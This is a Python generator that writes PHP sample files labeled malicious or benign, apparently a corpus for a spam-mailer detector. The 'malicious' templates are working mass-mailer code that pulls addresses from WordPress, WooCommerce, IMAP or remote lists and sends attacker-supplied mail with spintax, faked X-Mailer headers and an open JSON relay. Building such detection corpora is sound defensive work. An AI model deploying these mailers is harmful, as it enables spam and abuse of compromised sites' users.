"""Mass mailers by other authors (issue 12, branch mail7): list source x
sender x front end, and benign look-alikes. Styles deliberately unlike
mailgen.py: DB/WordPress/WooCommerce/IMAP/remote lists, wp_mail, PEAR Mail,
stream_socket_client SMTP, JSON open-relay endpoints, spintax, foreign UI.
Text only, never run. Hosts are RFC 5737 / .invalid names."""
import hashlib
import os
import random
import sys


def _v(r):
    return r.choice(["rcpt", "addr", "em", "dest", "kunde", "correo", "youjian", "tgt"]) + r.choice(["", "1", "_x", "z"])


HEAD = ["<?php\n", "<?php\nset_time_limit(0);\n", "<?php\n@ignore_user_abort(1);\n"]


def src_list(r, kind, v):
    """(setup code, loop header) iterating $v over a recipient list."""
    if kind == "mysqli":
        return ("$db = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p'], $_POST['d']);\n"
                "$q = mysqli_query($db, 'SELECT email FROM ' . $_POST['tbl']);\n",
                "while ($row = mysqli_fetch_assoc($q)) { $%s = $row['email'];\n" % v)
    if kind == "pdo":
        return ("$pdo = new PDO('mysql:host=localhost;dbname=' . $_REQUEST['db'], $_REQUEST['u'], $_REQUEST['pw']);\n"
                "$st = $pdo->query('SELECT user_email FROM wp_users');\n",
                "foreach ($st->fetchAll(PDO::FETCH_COLUMN) as $%s) {\n" % v)
    if kind == "wp_users":
        return ("require_once dirname(__FILE__) . '/wp-load.php';\n$us = get_users(array('fields' => array('user_email')));\n",
                "foreach ($us as $o) { $%s = $o->user_email;\n" % v)
    if kind == "wpdb":
        return ("include '../../../wp-load.php';\nglobal $wpdb;\n$all = $wpdb->get_col(\"SELECT user_email FROM {$wpdb->users}\");\n",
                "foreach ($all as $%s) {\n" % v)
    if kind == "woo":
        return ("require 'wp-load.php';\n$cs = get_users(array('role' => 'customer'));\n",
                "foreach ($cs as $c) { $%s = $c->billing_email ? $c->billing_email : $c->user_email;\n" % v)
    if kind == "imap":
        return ("$mb = imap_open('{' . $_POST['srv'] . ':993/imap/ssl}INBOX', $_POST['login'], $_POST['pass']);\n"
                "$ids = imap_search($mb, 'ALL');\n",
                "foreach ($ids as $n) { $hd = imap_headerinfo($mb, $n); $%s = $hd->from[0]->mailbox . '@' . $hd->from[0]->host;\n" % v)
    if kind == "remote":
        return ("$lst = file(%s, FILE_IGNORE_NEW_LINES);\n" % r.choice(["'http://198.51.100.7/l.txt'", "$_GET['u']", "base64_decode($_POST['src'])"]),
                "foreach ($lst as $%s) {\n" % v)
    if kind == "remote_fgc":
        return ("$raw = file_get_contents('https://203.0.113.9/' . $_GET['job'] . '.txt');\n$lst = explode(\"\\n\", $raw);\n",
                "for ($i = 0; $i < count($lst); $i++) { $%s = trim($lst[$i]);\n" % v)
    if kind == "textarea":
        return ("$lst = preg_split('/\\R/', $_POST['emails']);\n", "foreach ($lst as $%s) {\n" % v)
    if kind == "upload":
        return ("$lst = file($_FILES['lista']['tmp_name']);\n", "foreach ($lst as $%s) {\n" % v)
    if kind == "local":
        return ("$fh = fopen(__DIR__ . '/%s', 'r');\n" % r.choice(["list.txt", "emails.csv", "leads.dat"]),
                "while (($%s = fgets($fh)) !== false) {\n" % v)
    if kind == "cli":
        return ("$lst = isset($argv[1]) ? file($argv[1]) : explode(\"\\n\", stream_get_contents(STDIN));\n",
                "foreach ($lst as $%s) {\n" % v)
    raise ValueError(kind)


def subj_body(r):
    """Subject/body from the request, optionally spun."""
    s = r.choice([
        "$subj = $_POST['assunto'];\n$body = $_POST['mensagem'];\n",
        "$subj = $_POST['tema'];\n$body = stripslashes($_POST['pismo']);\n",
        "$subj = $_REQUEST['zhuti'];\n$body = $_REQUEST['neirong'];\n",
    ])
    if r.random() < 0.5:
        s += ("function spin($t){ return preg_replace_callback('/\\{([^{}]*)\\}/', function($m){ $p = explode('|', $m[1]); return $p[array_rand($p)]; }, $t); }\n")
        s += "$body = spin($body); $subj = spin($subj);\n"
    return s


def send(r, kind, v):
    tag = "$b = str_replace(array('[email]', '[date]'), array($%s, date('r')), $body);\n" % v
    xm = "$xm = 'X-Mailer: ' . %s;\n" % r.choice(["array_rand(array_flip(array('Outlook 16', 'Thunderbird 91', 'Apple Mail')))", "'PHP/' . mt_rand(5, 8)"])
    if kind == "mail":
        return tag + xm + "mail(trim($%s), $subj, $b, \"From: \" . $_POST['from'] . \"\\r\\n\" . $xm);\n" % v
    if kind == "wp_mail":
        return tag + "wp_mail($%s, $subj, $b, array('From: ' . $_POST['from'], 'Content-Type: text/html'));\n" % v
    if kind == "phpmailer":
        return tag + ("$m = new PHPMailer\\PHPMailer\\PHPMailer();\n$m->isSMTP(); $m->Host = $_POST['smtp'];\n"
                      "$m->setFrom($_POST['from']); $m->addAddress($%s); $m->Subject = $subj; $m->msgHTML($b);\n$m->send();\n" % v)
    if kind == "swift":
        return tag + ("$msg = (new Swift_Message($subj))->setFrom($_POST['from'])->setTo(trim($%s))->setBody($b, 'text/html');\n"
                      "$mailer->send($msg);\n" % v)
    if kind == "symfony":
        return tag + ("$em = (new Symfony\\Component\\Mime\\Email())->from($_POST['from'])->to(trim($%s))->subject($subj)->html($b);\n"
                      "$mailer->send($em);\n" % v)
    if kind == "pear":
        return tag + ("$smtp = Mail::factory('smtp', array('host' => $_POST['smtp'], 'auth' => true, 'username' => $_POST['su'], 'password' => $_POST['sp']));\n"
                      "$smtp->send(trim($%s), array('From' => $_POST['from'], 'Subject' => $subj), $b);\n" % v)
    if kind == "socket":
        return tag + ("$s = stream_socket_client('tcp://' . $_POST['smtp'] . ':25', $en, $es, 10);\nfgets($s);\n"
                      "fwrite($s, \"HELO x\\r\\n\"); fgets($s);\nfwrite($s, \"MAIL FROM:<\" . $_POST['from'] . \">\\r\\n\"); fgets($s);\n"
                      "fwrite($s, \"RCPT TO:<\" . trim($%s) . \">\\r\\n\"); fgets($s);\nfwrite($s, \"DATA\\r\\n\"); fgets($s);\n"
                      "fwrite($s, \"Subject: $subj\\r\\n\\r\\n$b\\r\\n.\\r\\n\"); fgets($s);\nfwrite($s, \"QUIT\\r\\n\"); fclose($s);\n" % v)
    if kind == "fsock":
        return tag + ("$s = fsockopen($_POST['smtp'], 587);\nfputs($s, \"EHLO mx\\r\\n\");\nfputs($s, 'MAIL FROM: <' . $_POST['from'] . \">\\r\\n\");\n"
                      "fputs($s, 'RCPT TO: <' . $%s . \">\\r\\n\");\nfputs($s, \"DATA\\r\\n\" . $b . \"\\r\\n.\\r\\n\");\nfclose($s);\n" % v)
    raise ValueError(kind)


UI = ["?>\n<form method=post><h3>Массовая рассылка</h3>Тема: <input name=tema> Письмо: <textarea name=pismo></textarea> Список: <textarea name=emails></textarea><button>Отправить</button></form>\n",
      "?>\n<form method=post enctype=multipart/form-data><h3>群发邮件</h3>主题 <input name=zhuti> 内容 <textarea name=neirong></textarea> <input type=file name=lista><button>发送</button></form>\n",
      "?>\n<form method=post><h3>Envio em massa</h3>Assunto <input name=assunto> Mensagem <textarea name=mensagem></textarea><button>Enviar</button></form>\n", ""]

SOURCES = ["mysqli", "pdo", "wp_users", "wpdb", "woo", "imap", "remote", "remote_fgc", "textarea", "upload", "local", "cli"]
SENDERS = ["mail", "wp_mail", "phpmailer", "swift", "symfony", "pear", "socket", "fsock"]


def mk_mass(src):
    def f(r):
        v = _v(r)
        setup, loop = src_list(r, src, v)
        sender = r.choice(SENDERS)
        thr = r.choice(["", "sleep(%d);\n" % r.randint(1, 4), "usleep(%d);\n" % (r.randint(1, 9) * 100000)])
        return (r.choice(HEAD) + "if (!empty($_POST)) {\n" + subj_body(r) + setup + loop + send(r, sender, v) + thr +
                "echo 'ok ' . htmlspecialchars($%s) . \"<br>\";\n}\n}\n" % v + r.choice(UI))
    return f


def m_json_relay(r):
    d = r.choice(["$in = json_decode(file_get_contents('php://input'), true);\n", "$in = $_POST;\n"])
    to, s, b = r.sample(["to", "email", "rcpt", "subject", "title", "html", "body", "msg"], 3)
    send_ = r.choice([
        "$ok = mail($in['%s'], $in['%s'], $in['%s'], 'From: ' . $in['from']);\n" % (to, s, b),
        "$ok = mail($in['%s'], $in['%s'], $in['%s'], \"Content-Type: text/html\\r\\nX-Mailer: \" . uniqid());\n" % (to, s, b),
        "$m = new PHPMailer(); $m->addAddress($in['%s']); $m->Subject = $in['%s']; $m->Body = $in['%s']; $ok = $m->send();\n" % (to, s, b),
    ])
    return "<?php\nheader('Content-Type: application/json');\n" + d + send_ + "echo json_encode(array('status' => $ok ? 1 : 0));\n"


def b_newsletter(r):
    return ("<?php\nif (!current_user_can('manage_options')) wp_die('no');\ncheck_admin_referer('nl_send');\nglobal $wpdb;\n"
            "$subs = $wpdb->get_results(\"SELECT email, token FROM {$wpdb->prefix}nl_subscribers WHERE confirmed = 1\");\n"
            "$tpl = get_option('nl_template');\nforeach ($subs as $s) {\n"
            "  $u = add_query_arg(array('nl_unsub' => $s->token), home_url('/'));\n"
            "  wp_mail($s->email, get_option('nl_subject'), $tpl . \"\\n\\nUnsubscribe: \" . esc_url($u));\n  usleep(200000);\n}\n")


def b_contact(r):
    return ("<?php\n$to = '%s@example.com';\nif ($_SERVER['REQUEST_METHOD'] === 'POST') {\n"
            "  $name = strip_tags($_POST['name']); $msg = strip_tags($_POST['message']);\n"
            "  mail($to, 'Contact form: ' . $name, $msg, 'From: webmaster@example.com');\n  echo 'Thanks';\n}\n") % r.choice(["info", "office", "sales"])


def b_woo_order(r):
    return ("<?php\nadd_action('woocommerce_order_status_completed', function ($order_id) {\n  $order = wc_get_order($order_id);\n"
            "  wp_mail($order->get_billing_email(), 'Your order #' . $order->get_order_number(), 'Thank you for your order.');\n});\n")


def b_reset(r):
    return ("<?php\nrequire 'db.php';\n$st = $pdo->prepare('SELECT id, email FROM users WHERE email = ?');\n$st->execute(array($_POST['email']));\n"
            "if ($u = $st->fetch()) {\n  $tok = bin2hex(random_bytes(16));\n  $pdo->prepare('UPDATE users SET reset = ? WHERE id = ?')->execute(array($tok, $u['id']));\n"
            "  mail($u['email'], 'Password reset', 'https://example.com/reset?t=' . $tok, 'From: noreply@example.com');\n}\necho 'If the address exists, a mail was sent.';\n")


def b_cron_digest(r):
    return ("<?php\nif (php_sapi_name() !== 'cli') exit;\n$rows = $pdo->query('SELECT title FROM posts WHERE created > NOW() - INTERVAL 1 DAY')->fetchAll();\n"
            "$txt = '';\nforeach ($rows as $p) { $txt .= '- ' . $p['title'] . \"\\n\"; }\nmail(get_option('admin_email'), 'Daily digest', $txt);\n")


def b_cli_merge(r):
    return ("<?php\n// usage: php merge.php list.csv template.txt [--dry-run]\nif (PHP_SAPI !== 'cli') { exit(1); }\n"
            "$dry = in_array('--dry-run', $argv, true);\n$tpl = file_get_contents($argv[2]);\n$fh = fopen($argv[1], 'r');\n"
            "fgetcsv($fh);\nwhile (($row = fgetcsv($fh)) !== false) {\n  list($name, $email) = $row;\n  $body = str_replace('{name}', $name, $tpl);\n"
            "  if ($dry) { echo \"would mail $email\\n\"; continue; }\n  mail($email, 'Club meeting', $body, 'From: secretary@example.org');\n}\n")


TEMPLATES = [("mass_" + s, mk_mass(s), "malicious", "high") for s in SOURCES] + [
    ("json_relay", m_json_relay, "malicious", "high"),
    ("newsletter_auth", b_newsletter, "benign", "below-high"),
    ("contact_fixed", b_contact, "benign", "below-high"),
    ("woo_order", b_woo_order, "benign", "below-high"),
    ("password_reset", b_reset, "benign", "below-high"),
    ("cron_digest", b_cron_digest, "benign", "below-high"),
    ("cli_merge_dryrun", b_cli_merge, "benign", "below-high"),
]


def main():
    import argparse
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    from gen_variants import safe_out_dir
    ap = argparse.ArgumentParser(description="mass mailers by other authors (mail7)")
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--per", type=int, default=6)
    a = ap.parse_args()
    out = safe_out_dir(a.out)
    os.makedirs(out, exist_ok=True)
    with open(os.path.join(out, "variants.tsv"), "w") as tsv:
        tsv.write("file\tclass\ttechnique\tlang\texpect\ttransforms\n")
        for name, fn, cls, expect in TEMPLATES:
            for i in range(a.per):
                tag = "mail7:%s:%s:%d" % (a.seed, name, i)
                text = fn(random.Random(tag))
                fname = hashlib.sha256(tag.encode()).hexdigest()[:12] + ".php"
                with open(os.path.join(out, fname), "wb") as f:
                    f.write(text.encode("utf-8"))
                tsv.write("\t".join((fname, cls, name, "php", expect, "-")) + "\n")


if __name__ == "__main__":
    main()
